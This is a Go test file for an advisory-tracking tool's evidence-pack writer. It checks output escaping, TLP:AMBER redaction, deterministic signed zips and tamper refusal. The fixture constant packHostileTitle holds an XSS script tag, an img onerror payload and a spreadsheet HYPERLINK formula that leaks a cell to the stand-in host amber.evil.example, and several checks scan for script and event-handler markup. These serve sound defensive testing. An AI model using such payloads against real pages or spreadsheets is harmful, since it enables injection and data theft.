package evidence_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/sigwatch/sigwatch/evidence"
	"github.com/sigwatch/sigwatch/feeds"
	"github.com/sigwatch/sigwatch/intake"
	"github.com/sigwatch/sigwatch/kpi"
)

// packHostileTitle is what a compromised or careless feed could send: HTML
// that would run in a browser, and a formula that would run in a
// spreadsheet.
const packHostileTitle = `<script>alert("pwned")</script><img src=x onerror=alert(1)> =HYPERLINK("http://amber.evil.example/?leak="&A1,"click here now")`

// hostilePackInput is the fixture's cases plus open actionable cases whose
// titles are hostile, one of them overdue at the as-of instant (so the
// title reaches the KPI report's overdue list, the POA&M, the digest and
// the HTML report's open actions) and told to its owner (so it reaches the
// dissemination record).
func hostilePackInput(t *testing.T) evidence.Pack {
	t.Helper()
	f := newFixture(t)
	cases := append(f.cases, openCases()...)
	for i := range cases {
		c := &cases[i]
		if c.ID == "CVE-2026-1111" || c.ID == "CVE-2026-2222" {
			c.Advisory.Title = packHostileTitle
			c.Receipts[0].Group = "cisa"
			c.TriagedAt = c.Receipts[0].ReceivedAt.Add(time.Hour)
			c.Events = append(c.Events, intake.Event{At: c.TriagedAt.Add(time.Minute), Kind: intake.EventNotified,
				Notifier: "chat", Recipient: "netops", Ref: "200 OK"})
		}
	}
	asOf := f.asOf
	report := kpi.Compute(f.reg, cases, kpi.Quarter(2026, 4), asOf, &kpi.Options{Generator: "sigwatch test"})
	return evidence.Pack{Register: f.reg, Cases: cases, KPI: report}
}

// TestPackHostileTitleInertEverywhere writes one pack holding a hostile
// advisory title and checks every file of it in its own format: CSV cells
// never start a formula, JSON decodes back to the exact title, Markdown has
// no unescaped HTML, the HTML report has no script or image and shows the
// title as text, and the text report keeps it on one line. Each file that
// should carry the title must carry it in some form, so the test cannot
// pass by leaving it out.
func TestPackHostileTitleInertEverywhere(t *testing.T) {
	dir := t.TempDir()
	m, err := evidence.WritePack(context.Background(), dir, hostilePackInput(t), packOptions())
	if err != nil {
		t.Fatal(err)
	}
	// Files that show advisory titles, and so must show this one (kpi.txt
	// names cases by ID only; it is still checked for control characters).
	carries := map[string]bool{"response-log.csv": true, "response-log.json": true, "dissemination.csv": true,
		"dissemination.json": true, "oscal-poam.json": true, "kpi.json": true,
		"digest.json": true, "digest.md": true, "report.html": true}
	seen := map[string]bool{}
	for _, f := range m.Files {
		data, err := os.ReadFile(filepath.Join(dir, f.Name))
		if err != nil {
			t.Fatal(err)
		}
		text := string(data)
		switch filepath.Ext(f.Name) {
		case ".csv":
			rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", f.Name, err)
			}
			for r, row := range rows {
				for c, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumberOrDate(cell) {
						t.Errorf("%s row %d column %d starts a formula: %q", f.Name, r+1, c+1, cell)
					}
					if cell == packHostileTitle || cell == "'"+packHostileTitle {
						seen[f.Name] = true
					}
				}
			}
		case ".json":
			var v any
			if err := json.Unmarshal(data, &v); err != nil {
				t.Fatalf("%s: %v", f.Name, err)
			}
			if containsString(v, packHostileTitle) {
				seen[f.Name] = true
			}
		case ".md":
			for i, line := range strings.Split(text, "\n") {
				for j := strings.IndexByte(line, '<'); j >= 0; j = indexFrom(line, '<', j+1) {
					if j == 0 || line[j-1] != '\\' {
						t.Errorf("%s:%d: unescaped '<' at column %d: %s", f.Name, i+1, j+1, line)
					}
				}
			}
			if strings.Contains(text, `\<script\>alert("pwned")\</script\>`) {
				seen[f.Name] = true
			}
		case ".html":
			lower := strings.ToLower(text)
			for _, bad := range []string{"<script", "<img", "javascript:"} {
				if strings.Contains(lower, bad) {
					t.Errorf("%s contains %q", f.Name, bad)
				}
			}
			if tag := regexp.MustCompile(`<[^>]*\son[a-z]+\s*=`).FindString(lower); tag != "" {
				t.Errorf("%s has an event handler attribute: %s", f.Name, tag)
			}
			if strings.Contains(text, "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;") {
				seen[f.Name] = true
			}
		case ".txt":
			for i, line := range strings.Split(text, "\n") {
				if strings.ContainsFunc(line, func(r rune) bool { return r < 0x20 && r != '\t' || r == 0x7f }) {
					t.Errorf("%s:%d: control character in %q", f.Name, i+1, line)
				}
				if strings.Contains(line, `<script>alert("pwned")</script>`) && strings.Contains(line, "=HYPERLINK") {
					seen[f.Name] = true // one line: plain text is inert
				}
			}
		}
	}
	for name := range carries {
		if !seen[name] {
			t.Errorf("%s does not show the hostile title: the check above proved nothing for it", name)
		}
	}
}

// isNumberOrDate admits negative numbers and durations, which start with
// '-' but are not formulas.
func isNumberOrDate(s string) bool {
	return regexp.MustCompile(`^-[0-9][0-9.:hms]*$`).MatchString(s)
}

func indexFrom(s string, c byte, from int) int {
	if from >= len(s) {
		return -1
	}
	if i := strings.IndexByte(s[from:], c); i >= 0 {
		return from + i
	}
	return -1
}

// containsString reports whether a decoded JSON value holds s as a whole
// string (or as the "[redacted …]" free start of one, for nothing else).
func containsString(v any, s string) bool {
	switch x := v.(type) {
	case string:
		return x == s
	case []any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	case map[string]any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	}
	return false
}

// TestPackRedactsAmberEverywhere writes the hostile pack with the two
// hostile cases labelled AMBER and Redact "amber": no byte of any file may
// hold their title, and the files that showed it now show the marker with
// the SHA-256 of the original title, computed here with crypto/sha256.
func TestPackRedactsAmberEverywhere(t *testing.T) {
	in := hostilePackInput(t)
	for i := range in.Cases {
		if in.Cases[i].Advisory.Title == packHostileTitle {
			in.Cases[i].Advisory.TLP = feeds.TLPAmber
		}
	}
	dir := t.TempDir()
	opts := packOptions()
	opts.Redact = "amber"
	m, err := evidence.WritePack(context.Background(), dir, in, opts)
	if err != nil {
		t.Fatal(err)
	}
	if m.Redacted != "AMBER" {
		t.Errorf("manifest redacted %q, want AMBER", m.Redacted)
	}
	sum := sha256.Sum256([]byte(packHostileTitle))
	marker := "[redacted TLP:AMBER] sha256:" + hex.EncodeToString(sum[:])
	// Distinctive pieces of the title, in every encoding the files use.
	leaks := []string{"pwned", "amber.evil.example", "click here now"}
	withMarker := 0
	for _, f := range m.Files {
		data, err := os.ReadFile(filepath.Join(dir, f.Name))
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range leaks {
			if bytes.Contains(data, []byte(l)) {
				t.Errorf("%s holds %q of a redacted title", f.Name, l)
			}
		}
		if bytes.Contains(data, []byte(hex.EncodeToString(sum[:]))) {
			withMarker++
		}
	}
	// The response log, dissemination record and digest (CSV or Markdown,
	// and JSON), the POA&M, kpi.json and the HTML report: 9 files.
	if withMarker != 9 {
		t.Errorf("%d files show the title's hash, want 9", withMarker)
	}
	log, err := os.ReadFile(filepath.Join(dir, evidence.FileResponseLogJSON))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(log, []byte(marker)) {
		t.Errorf("response log lacks %q", marker)
	}
	// The other advisories are still named.
	if !bytes.Contains(log, []byte("Fortinet FortiOS Out-of-Bound Write")) {
		t.Error("a CLEAR title was redacted")
	}
}

// TestPackByteIdentical writes the same signed pack twice, into two
// directories, and zips each: every file, and the zips, must be equal byte
// for byte. The inputs are rebuilt from scratch for the second pack, so a
// map iteration or a pointer address leaking into the output would show.
func TestPackByteIdentical(t *testing.T) {
	key := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize))
	write := func(dir string) ([]string, []byte) {
		opts := packOptions()
		opts.Signer = key
		opts.Redact = "amber"
		m, err := evidence.WritePack(context.Background(), dir, hostilePackInput(t), opts)
		if err != nil {
			t.Fatal(err)
		}
		var zbuf bytes.Buffer
		if err := evidence.WriteZip(&zbuf, dir, m); err != nil {
			t.Fatal(err)
		}
		entries, err := os.ReadDir(dir)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		return names, zbuf.Bytes()
	}
	// The zip names its folder after the directory: same name for both.
	a, b := filepath.Join(t.TempDir(), "pack"), filepath.Join(t.TempDir(), "pack")
	namesA, zipA := write(a)
	namesB, zipB := write(b)
	if strings.Join(namesA, ",") != strings.Join(namesB, ",") {
		t.Fatalf("file lists differ:\n%v\n%v", namesA, namesB)
	}
	for _, name := range namesA {
		da, err := os.ReadFile(filepath.Join(a, name))
		if err != nil {
			t.Fatal(err)
		}
		db, err := os.ReadFile(filepath.Join(b, name))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(da, db) {
			t.Errorf("%s differs between two packs of the same input", name)
		}
	}
	if !bytes.Equal(zipA, zipB) {
		t.Error("the zips differ")
	}
	// The zip holds exactly the pack's files: 25 files, the manifest, its
	// signature and public key, and SHA256SUMS.
	zr, err := zip.NewReader(bytes.NewReader(zipA), int64(len(zipA)))
	if err != nil {
		t.Fatal(err)
	}
	if len(zr.File) != len(namesA) || len(namesA) != 29 {
		t.Errorf("zip has %d entries, directory %d; want 29", len(zr.File), len(namesA))
	}
	rep, err := evidence.VerifyPack(context.Background(), a, &evidence.VerifyOptions{PublicKey: key.Public()})
	if err != nil || !rep.OK() {
		t.Fatalf("VerifyPack: %v %+v", err, rep)
	}
}

// TestPackAsOfPast writes the fixture's pack as of two past instants
// (read off the fixture's timeline in fixture_test.go): on 2026-11-24 at
// 12:00 CVE-2024-21762 was actioned (09:00 that day) but not yet closed
// (11-25 09:00) and CVE-2023-22518 not yet rejected (11-25 10:00); on
// 2026-11-22 nothing had been received.
func TestPackAsOfPast(t *testing.T) {
	f := newFixture(t)
	dir := t.TempDir()
	asOf := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	m, err := evidence.WritePack(context.Background(), dir, evidence.Pack{Register: f.reg, Cases: f.cases, AsOf: asOf}, packOptions())
	if err != nil {
		t.Fatal(err)
	}
	if m.Cases != 4 {
		t.Errorf("manifest cases %d, want 4", m.Cases)
	}
	recs := evidence.Records(mustAt(t, f.cases, asOf))
	states := map[string]string{}
	for _, r := range recs {
		states[r.CaseID] = r.State
	}
	if states["CVE-2024-21762"] != "actioned" || states["CVE-2023-22518"] == "rejected" {
		t.Errorf("states as of %s: %v", asOf, states)
	}
	data, err := os.ReadFile(filepath.Join(dir, evidence.FileResponseLogJSON))
	if err != nil {
		t.Fatal(err)
	}
	for _, later := range []string{"verified fixed", "accepted risk", "2026-11-25T"} {
		if bytes.Contains(data, []byte(later)) {
			t.Errorf("the response log as of %s holds %q, from after it", asOf, later)
		}
	}
	if !bytes.Contains(data, []byte(`"state": "actioned"`)) {
		t.Error("the response log does not show CVE-2024-21762 as actioned")
	}

	m, err = evidence.WritePack(context.Background(), t.TempDir(), evidence.Pack{Register: f.reg, Cases: f.cases,
		AsOf: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)}, packOptions())
	if err != nil {
		t.Fatal(err)
	}
	if m.Cases != 0 {
		t.Errorf("as of 2026-11-22: %d cases, want 0", m.Cases)
	}
}

func mustAt(t *testing.T, cases []intake.Case, at time.Time) []intake.Case {
	t.Helper()
	var out []intake.Case
	for i := range cases {
		if c, ok := cases[i].At(at); ok {
			out = append(out, c)
		}
	}
	return out
}

// TestWriteZipRefusesChangedManifestOrSignature: manifest.json, its
// signature and SHA256SUMS are not in the manifest's file list, so WriteZip
// checks them against SHA256SUMS; an edit to any of them since WritePack
// is refused, naming the file.
func TestWriteZipRefusesChangedManifestOrSignature(t *testing.T) {
	key := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{9}, ed25519.SeedSize))
	for _, tt := range []struct {
		file string
		edit func([]byte) []byte
		want string
	}{
		{evidence.FileManifest, func(b []byte) []byte { return bytes.Replace(b, []byte(`"control"`), []byte(`"Control"`), 1) }, "manifest.json"},
		{evidence.FileSignature, func(b []byte) []byte { b[0] ^= 1; return b }, "manifest.json.sig"},
		{evidence.FileSHA256SUMS, func(b []byte) []byte {
			return bytes.Replace(b, []byte("  register.csv\n"), []byte("  register.csv.old\n"), 1)
		},
			"does not list register.csv"},
	} {
		t.Run(tt.file, func(t *testing.T) {
			f := newFixture(t)
			dir := filepath.Join(t.TempDir(), "pack")
			opts := packOptions()
			opts.Signer = key
			m, err := evidence.WritePack(context.Background(), dir, evidence.Pack{Register: f.reg, Cases: f.cases, KPI: f.report()}, opts)
			if err != nil {
				t.Fatal(err)
			}
			p := filepath.Join(dir, tt.file)
			b, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, tt.edit(b), 0o644); err != nil {
				t.Fatal(err)
			}
			err = evidence.WriteZip(&bytes.Buffer{}, dir, m)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("WriteZip after editing %s: %v, want an error naming %q", tt.file, err, tt.want)
			}
		})
	}
}
